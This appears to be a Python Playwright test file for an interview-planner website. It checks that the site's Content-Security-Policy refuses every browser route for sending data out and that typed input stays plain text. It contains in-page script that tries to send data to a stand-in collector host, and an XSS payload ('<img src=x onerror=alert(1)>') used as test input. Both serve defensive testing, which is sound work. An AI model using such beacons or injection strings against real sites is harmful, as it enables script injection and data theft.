"""Nothing a reader types leaves the page, and none of it is read as markup.

Every browser test fails when a page of it sends a request off the local server or breaks
the site's Content-Security-Policy (the ``context`` fixture in conftest.py): the page tests
hold every page of both editions to that, the planner's and the search's tests hold the
pages in use. Here, the policy is seen at work: each way a script could send something
somewhere is refused before any request is made. And what a reader types into the planner
(markup, quotes, emoji, right-to-left script) comes back as the same text, in the page and
in the calendar file, without one element made from it.
"""

from __future__ import annotations

from collections import Counter
from datetime import date
from typing import Any

import icalendar
import pytest
from playwright.sync_api import Dialog, Page

import etiket
from browser._site import Site, Violation

pytestmark = [pytest.mark.browser, pytest.mark.site]

# Each way a script can send data, tried from a page of the site: to the site itself, where
# the policy forbids every connection, and to another host, where it forbids loading too.
# Each resolves to what became of it, none waits for a network that never answers.
_TRY_TO_SEND = """async ([here, elsewhere]) => {
    const settled = (start) => new Promise((done) => {
        start(done);
        setTimeout(() => done("no answer"), 2000);
    });
    const outcome = {};
    for (const [name, address] of [["fetch", here], ["fetch elsewhere", elsewhere]]) {
        outcome[name] = await fetch(address, { method: "POST", body: "x" })
            .then(() => "sent", (error) => error.name);
    }
    outcome.XMLHttpRequest = await settled((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done("sent");
        request.onerror = () => done("refused");
        request.open("POST", here);
        request.send("x");
    });
    navigator.sendBeacon(here, "x");
    outcome.WebSocket = await settled((done) => {
        const socket = new WebSocket(here.replace(/^http/, "ws"));
        socket.onopen = () => done("sent");
        socket.onerror = () => done("refused");
    });
    outcome.EventSource = await settled((done) => {
        const source = new EventSource(here);
        source.onopen = () => done("sent");
        source.onerror = () => { source.close(); done("refused"); };
    });
    outcome.image = await settled((done) => {
        const image = new Image();
        image.onload = () => done("sent");
        image.onerror = () => done("refused");
        image.src = elsewhere + "?data=x";
    });
    const script = document.createElement("script");
    script.textContent = "window.etiketRan = true;";
    document.body.append(script);
    outcome["inline script"] = window.etiketRan ? "ran" : "refused";
    return outcome;
}"""
_REFUSED = {
    "fetch": "TypeError",
    "fetch elsewhere": "TypeError",
    "XMLHttpRequest": "refused",
    "WebSocket": "refused",
    "EventSource": "refused",
    "image": "refused",
    "inline script": "refused",
}
ELSEWHERE = "https://collector.example/"


def refusals(here: str) -> Counter[tuple[str, str]]:
    """The directive that refuses each try of _TRY_TO_SEND, and the address it refuses."""
    return Counter(
        {
            # fetch, XMLHttpRequest, sendBeacon (which tells the page nothing), EventSource
            ("connect-src", here): 4,
            ("connect-src", ELSEWHERE): 1,
            ("connect-src", "ws" + here.removeprefix("http")): 1,
            ("img-src", ELSEWHERE + "?data=x"): 1,
            ("script-src-elem", "inline"): 1,
        }
    )


def test_the_policy_refuses_every_way_out(
    page: Page,
    site: Site,
    edition: str,
    policy_violations: list[Violation],
    offsite_requests: list[str],
) -> None:
    page.goto(site.url(edition))
    here = page.url
    fates: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: fates.append((request.url, request.failure)))
    page.on("requestfinished", lambda request: fates.append((request.url, "sent")))
    outcome = page.evaluate(_TRY_TO_SEND, [here, ELSEWHERE])
    assert outcome == _REFUSED
    page.wait_for_load_state("networkidle")
    tried = [(url, fate) for url, fate in fates if url == here or url.startswith(ELSEWHERE)]
    # The browser refused each before sending it (the few it made a request for, it failed).
    assert [(url, fate) for url, fate in tried if fate != "csp"] == []
    assert offsite_requests == []
    reported = Counter(
        (violation.directive, violation.blocked)
        for violation in policy_violations
        if violation.directive != "console"
    )
    assert reported == refusals(here), policy_violations
    # Those violations were this test's own doing: the context's check is for the pages'.
    policy_violations.clear()


# Company names a reader might type, and one nobody should. Each must come back as typed.
TYPED = (
    "<img src=x onerror=alert(1)>",
    "\"quotes' & <b>",
    "👩🏽‍💻",
    "שלום مرحبا",
)
PLAIN = "Acme"
INTERVIEW = date(2026, 11, 20)
# The elements added to the page from the moment it is watched, by tag name.
_WATCH_ADDED = """() => {
    const added = [];
    if (window.etiketWatch) window.etiketWatch.disconnect();
    window.etiketWatch = new MutationObserver((changes) => changes.forEach(
        (change) => change.addedNodes.forEach((node) => {
            if (node.nodeType !== Node.ELEMENT_NODE) return;
            added.push(node.tagName);
            node.querySelectorAll("*").forEach((inner) => added.push(inner.tagName));
        }),
    ));
    window.etiketWatch.observe(document.documentElement, { childList: true, subtree: true });
    window.etiketAdded = added;
}"""


def plan_for(page: Page, company: str) -> dict[str, Any]:
    """Plan the interview for ``company`` with the form; what the page added, said and offered."""
    planner = page.locator(".etiket-planner").first
    planner.locator("input[name=interview]").fill(INTERVIEW.isoformat())
    planner.locator("input[name=company]").fill(company)
    page.evaluate(_WATCH_ADDED)
    planner.locator("button[type=submit]").click()
    download_link = planner.locator(".etiket-planner__download")
    download_link.wait_for()
    with page.expect_download() as download:
        download_link.click()
    return {
        "added": sorted(page.evaluate("() => window.etiketAdded")),
        "text": planner.evaluate("(planner) => planner.textContent"),
        "calendar": download.value.path().read_bytes(),
    }


def summaries(calendar: bytes) -> list[str]:
    events = icalendar.Calendar.from_ical(calendar).walk("VEVENT")
    return [str(event["SUMMARY"]) for event in events]


def test_what_a_reader_types_stays_text(
    page: Page, site: Site, edition: str, page_errors: list[str]
) -> None:
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.goto(site.url(edition))
    plain = plan_for(page, PLAIN)
    timeline = etiket.plan(INTERVIEW, lang=edition)
    for typed in TYPED:
        shown = plan_for(page, typed)
        assert typed in shown["text"], f"{typed!r} is not shown as typed"
        # The same elements as for a plain name: none was made from what was typed.
        assert shown["added"] == plain["added"], typed
        expected = summaries(etiket.to_ics({typed: timeline}))
        assert summaries(shown["calendar"]) == expected, typed
        assert all(summary.startswith(f"{typed}: ") for summary in expected), typed
        # The calendar file holds the name as text (these need no iCalendar escaping).
        assert typed in shown["calendar"].decode("utf-8").replace("\r\n ", ""), typed
    assert dialogs == []
    assert page_errors == []
